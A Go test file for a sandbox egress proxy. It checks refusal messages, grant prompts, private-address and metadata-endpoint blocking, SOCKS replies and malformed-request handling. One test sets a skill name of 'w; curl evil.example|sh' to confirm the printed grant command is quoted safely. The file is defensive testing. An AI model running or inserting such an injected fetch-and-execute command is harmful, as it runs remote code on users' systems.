package egress_test

import (
	"bufio"
	"context"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/skills-mcp/skills-mcp/internal/hosts"
	"github.com/skills-mcp/skills-mcp/sandbox/egress"
)

// TestRefusalsSaySo: a program is told what was refused, why, and what grants it,
// in the status line too, which is all that many show of a CONNECT.
func TestRefusalsSaySo(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var events []egress.Event
	s := openAlone(t, &names{}, egress.Grant{Skill: "weather", Log: func(event egress.Event) {
		mu.Lock()
		defer mu.Unlock()
		events = append(events, event)
	}})
	program := client(t, s.address, nil)
	for _, test := range []struct{ url, want string }{
		{"https://api.test", "skills-mcp refused api.test:443: it is not granted to this skill; the user grants it with: skills-mcp grant weather --host api.test"},
		{"https://api.test:8443", "skills-mcp grant weather --host api.test:8443"},
		{"http://api.test/path?key=1", "skills-mcp refused api.test:80: it is not granted to this skill; the user grants it with: skills-mcp grant weather --host http://api.test\n"},
		{"https://10.0.0.1", "skills-mcp refused 10.0.0.1:443: it is no name of a host; addresses cannot be reached"},
	} {
		if _, body := get(t, program, test.url); !strings.Contains(body, test.want) {
			t.Errorf("GET %s = %q, want %q", test.url, body, test.want)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	want := []egress.Event{
		{Host: "api.test", Port: 443, Refused: egress.NotGranted},
		{Host: "api.test", Port: 8443, Refused: egress.NotGranted},
		{Host: "api.test", Port: 80, Refused: egress.NotGranted, Request: "GET /path"},
		{Host: "10.0.0.1", Port: 443, Refused: egress.InvalidHost},
	}
	if diff := cmp.Diff(want, events, cmpopts.IgnoreFields(egress.Event{}, "Time")); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
	wantUsage := egress.Usage{Hosts: []egress.HostUsage{
		{Host: "10.0.0.1", Port: 443, Refused: 1, Reason: egress.InvalidHost},
		{Host: "api.test", Port: 80, Refused: 1, Reason: egress.NotGranted, Wanted: rules(t, "http://api.test")[0]},
		{Host: "api.test", Port: 443, Refused: 1, Reason: egress.NotGranted, Wanted: rules(t, "api.test")[0]},
		{Host: "api.test", Port: 8443, Refused: 1, Reason: egress.NotGranted, Wanted: rules(t, "api.test:8443")[0]},
	}}
	if diff := cmp.Diff(wantUsage, s.Usage(), cmp.Comparer(func(a, b hosts.Rule) bool { return a == b })); diff != "" {
		t.Errorf("usage (-want +got):\n%s", diff)
	}
}

// TestUnsentRequests: what is granted and leads to no connection was not let through,
// with TLS or without.
func TestUnsentRequests(t *testing.T) {
	t.Parallel()
	resolver := &names{}
	resolver.set("api.test", "10.0.0.1")
	s := openAlone(t, resolver, egress.Grant{Rules: rules(t, "http://api.test", "api.test", "http://none.test")})
	program := client(t, s.address, nil)
	for _, url := range []string{"http://api.test", "https://api.test", "http://none.test"} {
		get(t, program, url)
	}
	want := egress.Usage{Hosts: []egress.HostUsage{
		{Host: "api.test", Port: 80, Refused: 1, Reason: egress.PrivateHost},
		{Host: "api.test", Port: 443, Refused: 1, Reason: egress.PrivateHost},
		{Host: "none.test", Port: 80, Refused: 1, Reason: egress.Unreachable},
	}}
	if diff := cmp.Diff(want, s.Usage(), cmp.Comparer(func(a, b hosts.Rule) bool { return a == b })); diff != "" {
		t.Errorf("usage (-want +got):\n%s", diff)
	}
}

// TestNamesInCommands: a skill chooses its name, and the user pastes the command.
func TestNamesInCommands(t *testing.T) {
	t.Parallel()
	s := openAlone(t, &names{}, egress.Grant{Skill: "w; curl evil.example|sh"})
	if _, body := get(t, client(t, s.address, nil), "https://api.test"); !strings.Contains(body, "skills-mcp grant 'w; curl evil.example|sh' --host api.test") {
		t.Errorf("it says %q", body)
	}
}

// TestRefusedSOCKS: every refusal has a reply.
func TestRefusedSOCKS(t *testing.T) {
	t.Parallel()
	resolver := &names{}
	resolver.set("api.test", "127.0.0.1")
	closed := closedPort(t)
	s := openAlone(t, resolver, egress.Grant{Rules: rules(t, at("api.test", closed), at("none.test", closed)), AllowPrivate: loopback})
	for _, test := range []struct {
		command, kind byte
		address       []byte
		want          string
	}{
		{1, 3, socksName("other.test"), "SOCKS reply 2"},
		{1, 1, []byte{127, 0, 0, 1}, "SOCKS reply 2"},
		{1, 3, socksName(""), "SOCKS reply 2"},
		{1, 3, socksName("none.test"), "SOCKS reply 4"},
		{1, 3, socksName("api.test"), "SOCKS reply 4"},
		{2, 3, socksName("api.test"), "SOCKS reply 7"},
		{3, 3, socksName("api.test"), "SOCKS reply 7"},
		{1, 9, nil, "SOCKS reply 8"},
	} {
		if _, err := socks(t, s.address, test.command, test.kind, test.address, closed); err == nil || err.Error() != test.want {
			t.Errorf("command %d, type %d, %q: %v, want %s", test.command, test.kind, test.address, err, test.want)
		}
	}
}

// TestAskedOnce: who uses a host that no rule allows waits for the user, who is
// asked once, and is let through then or not.
func TestAskedOnce(t *testing.T) {
	t.Parallel()
	resolver := &names{}
	via := serve(t, "127.0.0.1", false, hello) // the user's proxy, which reaches everything
	proxy := newProxy(t, egress.Options{Resolver: resolver, Environ: []string{"HTTP_PROXY=http://" + at("127.0.0.1", via)}})
	var asked sync.Map
	s := open(t, proxy, egress.Grant{Ask: func(_ context.Context, wanted hosts.Rule) egress.Answer {
		count, _ := asked.LoadOrStore(wanted.String(), new(atomic.Int32))
		count.(*atomic.Int32).Add(1)
		return map[string]egress.Answer{"http://yes.test": egress.Yes, "http://no.test": egress.No}[wanted.String()]
	}})
	program := client(t, s.address, nil)
	tests := []struct {
		host   string
		status int
		says   string
		saysNo string
	}{
		{"yes.test", http.StatusOK, "hello", "refused"},
		{"no.test", http.StatusForbidden, "the user was asked", "skills-mcp grant"},
		{"nobody.test", http.StatusForbidden, "skills-mcp grant", "the user was asked"},
	}
	var all sync.WaitGroup
	for range 10 {
		for _, test := range tests {
			all.Go(func() {
				status, body := get(t, program, "http://"+test.host)
				if status != test.status || !strings.Contains(body, test.says) || strings.Contains(body, test.saysNo) {
					t.Errorf("%s: %d %s", test.host, status, body)
				}
			})
		}
	}
	all.Wait()
	for _, test := range tests {
		if count, ok := asked.Load("http://" + test.host); !ok || count.(*atomic.Int32).Load() != 1 {
			t.Errorf("%s was not asked for once", test.host)
		}
	}
	if status, body := get(t, program, "https://yes.test"); status != 0 {
		t.Errorf("TLS is granted with plain HTTP: %d %s", status, body)
	}
	if len(resolver.asked) > 0 {
		t.Errorf("names were looked up: %q", resolver.asked)
	}
}

// TestAskedAddresses: an answer about a name is none about private addresses, be
// they granted for other hosts; and no name is looked up before it, since a program
// chooses it.
func TestAskedAddresses(t *testing.T) {
	t.Parallel()
	port := serve(t, "127.0.0.1", false, hello)
	resolver := &names{}
	resolver.set("granted.test", "127.0.0.1")
	resolver.set("rebound.test", "127.0.0.1")
	resolver.set("metadata.test", "169.254.169.254")
	s := openAlone(t, resolver, egress.Grant{Rules: rules(t, "http://"+at("granted.test", port)), AllowPrivate: loopback,
		Ask: func(_ context.Context, wanted hosts.Rule) egress.Answer {
			if resolver.wasAsked(wanted.Name()) {
				t.Errorf("%s was looked up before the answer", wanted.Name())
			}
			if wanted.Name() == "message.test" {
				return egress.No
			}
			return egress.Yes
		}})
	program := client(t, s.address, nil)
	for name, status := range map[string]int{"granted.test": http.StatusOK, "rebound.test": http.StatusForbidden, "metadata.test": http.StatusForbidden, "message.test": http.StatusForbidden} {
		if got, body := get(t, program, "http://"+at(name, port)); got != status {
			t.Errorf("%s: %d %s, want %d", name, got, body, status)
		}
	}
	if resolver.wasAsked("message") {
		t.Error("what was refused was looked up")
	}
}

// TestAskedLittle: a program cannot have its user asked for ever, nor keep the
// session open by a question.
func TestAskedLittle(t *testing.T) {
	t.Parallel()
	var asked atomic.Int32
	s := openAlone(t, &names{}, egress.Grant{Ask: func(context.Context, hosts.Rule) egress.Answer {
		asked.Add(1)
		return egress.No
	}})
	program := client(t, s.address, nil)
	for i := range egress.MaxHosts + 20 {
		_, _ = get(t, program, "http://"+strings.Repeat("x", i%60+1)+"."+strings.Repeat("y", i/60+1)+".test")
	}
	if got := asked.Load(); got != egress.MaxHosts {
		t.Errorf("the user was asked %d times", got)
	}

	waiting := make(chan struct{})
	s = openAlone(t, &names{}, egress.Grant{Ask: func(ctx context.Context, _ hosts.Rule) egress.Answer {
		close(waiting)
		<-ctx.Done()
		return egress.Yes
	}})
	got := make(chan string)
	go func() {
		_, body := get(t, client(t, s.address, nil), "http://api.test")
		got <- body
	}()
	<-waiting
	s.Close()
	<-s.done
	<-got
	if usage := s.Usage(); len(usage.Hosts) != 1 || usage.Hosts[0].Requests != 0 {
		t.Errorf("usage %+v of a session that was closed during a question", usage)
	}
}

// TestUsageIsBounded: what is refused leaves room for what is not.
func TestUsageIsBounded(t *testing.T) {
	t.Parallel()
	port := serve(t, "127.0.0.1", false, hello)
	resolver := &names{}
	resolver.set("z.api.test", "127.0.0.1")
	s := openAlone(t, resolver, egress.Grant{Rules: rules(t, "http://"+at("*.api.test", port)), AllowPrivate: loopback})
	program := client(t, s.address, nil)
	for i := range 2 * egress.MaxHosts {
		_, _ = get(t, program, "http://"+strings.Repeat("x", i%60+1)+"."+strings.Repeat("y", i/60+1)+".test")
	}
	if status, body := get(t, program, "http://"+at("z.api.test", port)); status != http.StatusOK {
		t.Fatalf("%d %s", status, body)
	}
	usage := s.Usage()
	if len(usage.Hosts) > egress.MaxHosts || len(usage.Hosts)+usage.Omitted != 2*egress.MaxHosts+1 {
		t.Errorf("%d hosts, %d omitted", len(usage.Hosts), usage.Omitted)
	}
	if !slices.ContainsFunc(usage.Hosts, func(host egress.HostUsage) bool { return host.Host == "z.api.test" && host.Requests == 1 }) {
		t.Error("what was let through is not in the account")
	}
}

// TestNoRequests: what is none is answered or dropped, and counted.
func TestNoRequests(t *testing.T) {
	t.Parallel()
	var all sync.WaitGroup
	defer all.Wait()
	for _, text := range []string{
		"GET / HTTP/1.1\r\n\r\n",
		"GET /\r\n\r\n",
		"GET http://[::1 HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET ftp://api.test/ HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n",
		"CONNECT api.test HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"CONNECT /path HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"CONNECT api.test:443.other.test:443 HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"CONNECT api.test\x00.other.test:443 HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
		"X" + strings.Repeat("x", 200<<10),
		"\x16\x03\x01\x00\x05hello",
		"\x04\x01\x00\x50\x7f\x00\x00\x01\x00",
		"\x05\x01\x02",
		"\x05\x00",
		"get http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"\x00",
	} {
		all.Go(func() {
			s := openAlone(t, &names{}, egress.Grant{})
			c := dialRaw(t, s.address)
			go func() { _, _ = io.WriteString(c, text) }()
			answer, _ := io.ReadAll(c)
			if strings.HasPrefix(text, "GET") || strings.HasPrefix(text, "CONNECT") {
				response, err := http.ReadResponse(bufio.NewReader(strings.NewReader(string(answer))), nil)
				if err != nil || response.StatusCode < 400 {
					t.Errorf("%.40q is answered %q", text, answer)
				}
			}
			_ = c.Close()
			_ = s.listener.Close() // as when the run's programs are gone
			<-s.done
			if usage := s.Usage(); len(usage.Hosts) != 1 || usage.Hosts[0].Refused != 1 {
				t.Errorf("%.40q: usage %+v", text, usage)
			}
		})
	}
}
